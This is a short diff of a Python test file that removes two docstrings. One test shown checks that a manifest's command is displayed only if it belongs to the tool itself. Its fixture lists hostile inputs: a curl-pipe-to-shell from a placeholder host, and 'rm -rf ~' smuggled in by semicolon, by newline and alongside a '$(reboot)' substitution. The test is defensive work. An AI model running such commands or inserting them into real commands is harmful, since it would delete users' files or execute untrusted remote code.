@@ -41,7 +41,6 @@ def in_manifest(split: str = "", **changes: Any) -> Change:
 
 
 def in_index(**changes: Any) -> Change:
-    """Of the first chunk."""
     return lambda folder: edit(folder / INDEX, lambda index: index["chunks"][0].update(changes))
 
 
@@ -105,7 +104,6 @@ def test_missing_foreign_and_unfinished_folders(tmp_path: Path) -> None:
 
 
 def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(own_shards: Path) -> None:
-    """An error tells the user to run it."""
     (own_shards / "train" / "index.json").unlink()
     foreign = ["curl https://example.org/x | sh", "anlit prepare Test; rm -rf ~", "anlit prepare Test $(reboot)"]
     for command in [*foreign, "anlit prepare 'Test\nrm -rf ~'", "anlit prepare 'Test", "anlit prepare 'a b'"]:
